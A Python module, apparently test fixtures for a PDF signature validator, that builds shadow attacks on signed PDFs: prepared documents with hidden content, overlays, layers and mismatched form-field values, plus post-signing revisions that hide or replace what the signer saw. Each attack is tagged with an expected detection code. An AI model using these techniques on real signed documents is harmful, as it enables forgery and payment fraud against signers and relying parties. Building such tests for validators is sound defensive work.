"""Shadow attacks: whoever writes the document prepares it before it is signed, and changes what it shows afterwards.

Hide, replace, hide-and-replace (Mainka et al., "Shadow Attacks: Hiding and Replacing Content in Signed PDFs", 2021),
and fields whose look is changed while their value stays. All signed bytes are there, signed by an honest signer who
saw what the prepared document showed.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from attack_kit import EVIL, appended, stream, table

CATALOG, PAGES, PAGE, CONTENT, FONT, FORM, FIELD, LOOKS, OVERLAY, BOX, TICKED, BLANK = range(1, 13)
HIDDEN_CATALOG, HIDDEN_PAGES, HIDDEN_PAGE, HIDDEN_CONTENT, HIDDEN_FONT, LAYER = range(13, 19)

_TEXT = b"BT /F1 18 Tf 60 700 Td (Bayarlah Rp 1.000.000) Tj ET "
_SHOWN = b"BT /F1 18 Tf 5 10 Td (%s) Tj ET"
_OPAQUE = b"1 g 0 0 345 35 re f 0 g "
_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 345 35] /Resources << /Font << /F1 5 0 R >> >>"
_AT = b"/Rect [55 690 400 725]"
_BESIDE = b"/Rect [55 500 400 535]"
_FIELD = (
    b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (jumlah) /V (%s) /F 4 %s /P 3 0 R /DA (/F1 18 Tf 0 g)"
    b" /AP << /N 8 0 R >> >>"
)


def looks(text: bytes, *, opaque: bool = False) -> bytes:
    """What a field shows."""
    return stream((_OPAQUE if opaque else b"") + _SHOWN % text, _FORM)


def _leaf(contents: int) -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Annots [7 0 R 10 0 R]"
        b" /Resources << /Font << /F1 5 0 R >> /XObject << /Tutup 9 0 R >>"
        b" /Properties << /L 18 0 R >> >> >>" % contents
    )


PREPARED = {
    CATALOG: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R /OCProperties << /OCGs [18 0 R]"
    b" /D << /ON [18 0 R] /OFF [] /Order [18 0 R] >> >> >>",
    PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    PAGE: _leaf(CONTENT),
    CONTENT: stream(_TEXT + b"/OC /L BDC q 1 0 0 1 55 600 cm /Tutup Do Q EMC"),
    FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>",
    FORM: b"<< /Fields [7 0 R 10 0 R] /DR << /Font << /F1 5 0 R >> >> /DA (/F1 12 Tf 0 g) >>",
    FIELD: _FIELD % (b"", _BESIDE),
    LOOKS: looks(b""),
    OVERLAY: looks(b"Disetujui", opaque=True),
    BOX: b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (setuju) /V /Ya /AS /Ya /F 4 /Rect [55 400 75 420] /P 3 0 R"
    b" /AP << /N << /Ya 11 0 R /Off 12 0 R >> >> >>",
    TICKED: looks(b"x"),
    BLANK: looks(b""),
    HIDDEN_CATALOG: b"<< /Type /Catalog /Pages 14 0 R /AcroForm 6 0 R >>",
    HIDDEN_PAGES: b"<< /Type /Pages /Kids [15 0 R] /Count 1 >>",
    HIDDEN_PAGE: _leaf(HIDDEN_CONTENT).replace(b"/Parent 2", b"/Parent 14"),
    HIDDEN_CONTENT: stream(EVIL),
    HIDDEN_FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>",
    LAYER: b"<< /Type /OCG /Name (Lapisan) >>",
}


def prepared(objects: Mapping[int, bytes] | None = None) -> bytes:
    """The document as it is given to be signed, with a second content stream that no table names yet."""
    data, places = b"%%PDF-1.7\n%d 0 obj\n%s\nendobj\n" % (CONTENT, stream(EVIL)), {}
    for number, text in {**PREPARED, **(objects or {})}.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    trailer = b"trailer\n<< /Size %d /Root 1 0 R /ID [<01><02>] >>\n" % (LAYER + 1)
    return data + table(places) + trailer + b"startxref\n%d\n%%%%EOF\n" % len(data)


@dataclass(frozen=True)
class Shadow:
    """One attack: what is prepared, how it is used when it has been signed, and what must be said of it."""

    objects: Mapping[int, bytes]
    use: Callable[[bytes], bytes]
    code: str


SHADOWS: dict[str, Shadow] = {}


def shadow(
    code: str, objects: Mapping[int, bytes] | None = None
) -> Callable[[Callable[[bytes], bytes]], Callable[[bytes], bytes]]:
    """Register what an attacker does with the signed document, which was prepared with ``objects``."""

    def register(use: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
        SHADOWS[use.__name__.replace("_", " ")] = Shadow(objects or {}, use, code)
        return use

    return register


def _now(data: bytes, number: int) -> bytes:
    """An object as the signed document has it."""
    return data[data.rindex(b"\n%d 0 obj\n" % number) :].split(b" obj\n", 1)[1].split(b"\nendobj", 1)[0]


def _updated(data: bytes, *changes: tuple[int, bytes, bytes], new: bytes | None = None) -> bytes:
    """One more revision with some text exchanged in some objects, and with ``new`` as the object 90."""
    objects = {} if new is None else {90: new}
    for number, old, now in changes:
        text = objects.get(number) or _now(data, number)
        assert old in text, (number, old)
        objects[number] = text.replace(old, now, 1)
    return appended(data, objects)


_LOOKS_ANEW = (FIELD, b"/N 8 0 R", b"/N 90 0 R")
OVER_THE_TEXT = {FIELD: _FIELD % (b"Bayarlah Rp 100", _AT), LOOKS: looks(b"Bayarlah Rp 100", opaque=True)}
"""The signer sees a field that lies over the text."""


@shadow("I-SHADOW", OVER_THE_TEXT)
def hide_by_a_field_that_is_emptied(data: bytes) -> bytes:
    """Filling in a form is allowed; what comes to light is what nobody saw who signed."""
    return _updated(data, (FIELD, b"/V (Bayarlah Rp 100)", b"/V ()"), _LOOKS_ANEW, new=looks(b""))


@shadow("I-SHADOW", OVER_THE_TEXT)
def hide_by_a_field_that_is_filled_in_without_its_ground(data: bytes) -> bytes:
    small = stream(b"BT /F1 8 Tf 250 30 Td (lunas) Tj ET", _FORM)
    return _updated(data, (FIELD, b"/V (Bayarlah Rp 100)", b"/V (lunas)"), _LOOKS_ANEW, new=small)


@shadow("I-SHADOW", OVER_THE_TEXT)
def hide_by_a_field_that_is_struck_out(data: bytes) -> bytes:
    """What the field now shows reaches from end to end of what it hid, and hides none of it."""
    line = stream(b"0.5 w 0 2 m 345 2 l 345 33 l 0 33 l S", _FORM)
    return _updated(data, (FIELD, b"/V (Bayarlah Rp 100)", b"/V (batal)"), _LOOKS_ANEW, new=line)


@shadow("I-MODIFIED")
def hide_by_an_overlay_that_is_emptied(data: bytes) -> bytes:
    return appended(data, {OVERLAY: looks(b"")})


@shadow("I-MODIFIED")
def hide_by_an_overlay_that_is_freed(data: bytes) -> bytes:
    return appended(data, {}, rows=b"%d 1\n0000000000 00001 f \n" % OVERLAY)


@shadow("I-MODIFIED")
def hide_by_a_layer_that_is_switched_off(data: bytes) -> bytes:
    return _updated(data, (CATALOG, b"/OFF [ ]", b"/OFF [ 18 0 R ]"))


@shadow("I-MODIFIED")
def replace_by_another_font(data: bytes) -> bytes:
    return appended(data, {FONT: PREPARED[HIDDEN_FONT]})


@shadow("I-MODIFIED")
def replace_by_what_the_overlay_says(data: bytes) -> bytes:
    return appended(data, {OVERLAY: looks(b"Ditolak", opaque=True)})


@shadow("I-MODIFIED", {FIELD: _FIELD % (b"9.000.000", _BESIDE), LOOKS: looks(b"1.000.000")})
def replace_by_the_value_that_a_field_did_not_show(data: bytes) -> bytes:
    """The field's value was another one than it showed; now the look follows it."""
    return appended(data, {LOOKS: looks(b"9.000.000")})


@shadow("I-MODIFIED", {FIELD: _FIELD % (b"9.000.000", _BESIDE), LOOKS: looks(b"1.000.000")})
def replace_by_having_readers_draw_the_value_that_a_field_did_not_show(data: bytes) -> bytes:
    """NeedAppearances has each reader draw each field anew, by its value."""
    return _updated(data, (FORM, b"/DR", b"/NeedAppearances true /DR"))


@shadow("I-MODIFIED")
def hide_and_replace_by_a_table_that_leads_to_the_second_content(data: bytes) -> bytes:
    """The object was there when it was signed, under the same number, and no table led to it."""
    place = re.search(rb"(?<=\n)%d 0 obj" % CONTENT, data)
    assert place is not None
    return appended(data, {}, rows=b"%d 1\n%010d 00000 n \n" % (CONTENT, place.start()))


@shadow("I-MODIFIED")
def hide_and_replace_by_a_catalog_that_was_there(data: bytes) -> bytes:
    return appended(data, {}, entries=b"/Root %d 0 R" % HIDDEN_CATALOG)


@shadow("I-MODIFIED")
def hide_and_replace_by_a_page_that_was_there(data: bytes) -> bytes:
    return _updated(data, (PAGES, b"[3 0 R]", b"[15 0 R]"))


@shadow("I-MODIFIED")
def hide_and_replace_by_a_content_that_was_there(data: bytes) -> bytes:
    return _updated(data, (PAGE, b"/Contents 4 0 R", b"/Contents 16 0 R"))


VALUED = {FIELD: _FIELD % (b"1.000.000", _BESIDE), LOOKS: looks(b"1.000.000")}


@shadow("I-MODIFIED", VALUED)
def field_shown_otherwise_in_place(data: bytes) -> bytes:
    return appended(data, {LOOKS: looks(b"9.000.000")})


@shadow("I-MODIFIED", VALUED)
def field_shown_otherwise_by_another_look(data: bytes) -> bytes:
    return _updated(data, _LOOKS_ANEW, new=looks(b"9.000.000"))


@shadow("I-MODIFIED", VALUED)
def field_shown_otherwise_and_its_value_spelled_otherwise(data: bytes) -> bytes:
    spelled = b"/V <%s>" % b"1.000.000".hex().encode()
    return _updated(data, (FIELD, b"/V (1.000.000)", spelled), _LOOKS_ANEW, new=looks(b"9.000.000"))


@shadow("I-MODIFIED", VALUED)
def field_shown_at_another_place(data: bytes) -> bytes:
    return _updated(data, (FIELD, _BESIDE, _AT))


@shadow("I-MODIFIED", VALUED)
def field_hidden(data: bytes) -> bytes:
    return _updated(data, (FIELD, b"/F 4", b"/F 6"))


@shadow("I-MODIFIED")
def tick_taken_away_while_the_value_stays(data: bytes) -> bytes:
    return _updated(data, (BOX, b"/AS /Ya", b"/AS /Off"))


@shadow("I-MODIFIED")
def tick_drawn_otherwise(data: bytes) -> bytes:
    return _updated(data, (BOX, b"/Ya 11 0 R", b"/Ya 12 0 R"))


def filled_in(data: bytes) -> bytes:
    """What honest software does with the same field: value and look change together."""
    return appended(
        data,
        {
            FIELD: _now(data, FIELD).replace(b"(1.000.000)", b"(2.000.000)").replace(b"/N 8 0 R", b"/N 90 0 R"),
            BOX: _now(data, BOX).replace(b"/V /Ya /AS /Ya", b"/V /Off /AS /Off"),
            90: looks(b"2.000.000"),
        },
    )
